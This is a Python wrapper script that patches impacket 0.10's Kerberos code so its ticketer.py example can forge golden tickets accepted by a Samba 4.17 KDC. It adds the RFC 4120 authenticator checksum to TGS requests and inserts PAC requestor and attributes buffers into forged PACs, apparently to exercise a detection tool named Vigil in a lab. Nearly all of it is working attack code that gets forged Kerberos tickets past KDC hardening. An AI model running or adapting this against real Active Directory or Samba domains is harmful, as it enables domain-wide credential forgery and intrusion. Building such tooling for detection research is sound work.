"""Runs a stock impacket 0.10 example script with the two client-side fixes Samba 4.17 needs for a
golden ticket (see /work/shared/reference/samba-lab.md, fixes 1 and 4), and nothing else:

  python3 impacket_compat.py /usr/share/doc/python3-impacket/examples/ticketer.py ARGS...

1. TGS-REQ authenticator checksum. impacket 0.10 sends the TGS-REQ's AP-REQ authenticator without the
   RFC 4120 keyed checksum over KDC-REQ-BODY; Heimdal answers KRB_AP_ERR_INAPP_CKSUM. The request is
   rewritten just before it is sent: the authenticator is decrypted with the TGT session key, gets a
   checksum of the encoded req-body (key usage 6, the checksum type of the session key's enctype),
   and is encrypted again (key usage 7). Everything else on the wire stays impacket's.
2. PAC_ATTRIBUTES_INFO (17) and PAC_REQUESTOR (18) in ticketer's PAC. Samba (as patched Windows)
   refuses a TGT without the requestor SID (KDC_ERR_TGT_REVOKED). ticketer packs a 4-buffer PACTYPE and
   signs its bytes; the PACTYPE class is swapped for one whose bytes carry the two extra buffers, so the
   signatures ticketer computes cover the same layout that ends up in the ticket. The buffers come
   before the two signatures, the order a Samba KDC writes (1, 10, 17, 18, 6, 7); there is no
   UPN_DNS_INFO (12), as in the stock ticketer: that absence is one of the things Vigil looks for.

Debian 12 ships impacket 0.10; newer releases on PyPI build the two PAC buffers themselves
(ticketer -extra-pac), but the lab installs nothing beyond Debian's packages.
"""

import runpy
import struct
import sys

from pyasn1.codec.der import decoder, encoder
from pyasn1.type.univ import noValue

from impacket.krb5 import kerberosv5, pac
from impacket.krb5.asn1 import AP_REQ, TGS_REQ, Authenticator
from impacket.krb5.crypto import Cksumtype, Enctype, _checksum_table

# RFC 4120 key usages: 6 = TGS-REQ authenticator checksum, 7 = TGS-REQ authenticator.
KU_TGS_REQ_AUTH_CKSUM = 6
KU_TGS_REQ_AUTH = 7
CHECKSUM_FOR = {
    Enctype.AES256: Cksumtype.SHA1_AES256,
    Enctype.AES128: Cksumtype.SHA1_AES128,
    Enctype.RC4: Cksumtype.HMAC_MD5,
}
PAC_ATTRIBUTES_INFO = 17
PAC_REQUESTOR = 18
PAC_WAS_REQUESTED = 0x1

# The (cipher, session key) of the getKerberosTGS call in progress: sendReceive needs them.
_tgs_keys = []


def _with_checksum(message, cipher, session_key):
    """The TGS-REQ `message` with a keyed req-body checksum in its authenticator."""
    req = decoder.decode(message, asn1Spec=TGS_REQ())[0]
    ap_req = decoder.decode(req["padata"][0]["padata-value"], asn1Spec=AP_REQ())[0]
    plain = cipher.decrypt(session_key, KU_TGS_REQ_AUTH, ap_req["authenticator"]["cipher"].asOctets())
    auth = decoder.decode(plain, asn1Spec=Authenticator())[0]
    cksumtype = CHECKSUM_FOR[session_key.enctype]
    auth["cksum"] = noValue
    auth["cksum"]["cksumtype"] = cksumtype
    auth["cksum"]["checksum"] = _checksum_table[cksumtype].checksum(
        session_key, KU_TGS_REQ_AUTH_CKSUM, _inner(encoder.encode(req["req-body"]))
    )
    ap_req["authenticator"]["cipher"] = cipher.encrypt(session_key, KU_TGS_REQ_AUTH, encoder.encode(auth), None)
    req["padata"][0]["padata-value"] = encoder.encode(ap_req)
    return encoder.encode(req)


def _inner(tlv):
    """The value of a DER TLV: the req-body component carries TGS-REQ's explicit [4] tag, and the
    checksum covers the KDC-REQ-BODY SEQUENCE inside it."""
    first = tlv[1]
    start = 2 if first < 0x80 else 2 + (first & 0x7F)
    return tlv[start:]


_stock_get_tgs = kerberosv5.getKerberosTGS
_stock_send = kerberosv5.sendReceive


def _get_tgs(server_name, domain, kdc_host, tgt, cipher, session_key):
    _tgs_keys.append((cipher, session_key))
    try:
        return _stock_get_tgs(server_name, domain, kdc_host, tgt, cipher, session_key)
    finally:
        _tgs_keys.pop()


def _send(data, host, kdc_host):
    if _tgs_keys:
        data = _with_checksum(data, *_tgs_keys[-1])
    return _stock_send(data, host, kdc_host)


def _binary_sid(text):
    """MS-DTYP 2.4.2.2: revision, sub-authority count, 48-bit big-endian authority, LE sub-authorities."""
    parts = text.split("-")
    if len(parts) < 4 or parts[0] != "S":
        raise ValueError("not a SID: %s" % text)
    subs = [int(p) for p in parts[3:]]
    return struct.pack("<BB", int(parts[1]), len(subs)) + int(parts[2]).to_bytes(6, "big") + struct.pack("<%dI" % len(subs), *subs)


def _arg(name, default=None):
    argv = sys.argv
    return argv[argv.index(name) + 1] if name in argv and argv.index(name) + 1 < len(argv) else default


def _pac_class(user_sid):
    """A PACTYPE whose bytes insert PAC_ATTRIBUTES_INFO and PAC_REQUESTOR before the signatures."""
    extra = {
        PAC_ATTRIBUTES_INFO: struct.pack("<II", 2, PAC_WAS_REQUESTED),
        PAC_REQUESTOR: _binary_sid(user_sid),
    }

    stock = pac.PACTYPE

    class PacWithRequestor(stock):
        def getData(self):
            blob = stock.getData(self)
            count = struct.unpack_from("<I", blob, 0)[0]
            buffers = []
            for i in range(count):
                kind, size, offset = struct.unpack_from("<IIQ", blob, 8 + 16 * i)
                buffers.append((kind, blob[offset : offset + size]))
            kinds = [k for k, _ in buffers]
            if PAC_REQUESTOR in kinds:
                return blob
            at = next((i for i, k in enumerate(kinds) if k in (pac.PAC_SERVER_CHECKSUM, pac.PAC_PRIVSVR_CHECKSUM)), len(buffers))
            buffers[at:at] = [(k, extra[k]) for k in (PAC_ATTRIBUTES_INFO, PAC_REQUESTOR)]
            offset = 8 + 16 * len(buffers)
            head, body = b"", b""
            for kind, data in buffers:
                head += struct.pack("<IIQ", kind, len(data), offset)
                padded = data + b"\x00" * (-len(data) % 8)
                body += padded
                offset += len(padded)
            return struct.pack("<II", len(buffers), self["Version"]) + head + body

    return PacWithRequestor


def main():
    if len(sys.argv) < 2:
        sys.exit("usage: impacket_compat.py SCRIPT.py [ARGS...]")
    script = sys.argv[1]
    sys.argv = sys.argv[1:]
    kerberosv5.getKerberosTGS = _get_tgs
    kerberosv5.sendReceive = _send
    if script.endswith("ticketer.py"):
        domain_sid = _arg("-domain-sid")
        if domain_sid:
            pac.PACTYPE = _pac_class("%s-%s" % (domain_sid, _arg("-user-id", "500")))
    runpy.run_path(script, run_name="__main__")


if __name__ == "__main__":
    main()
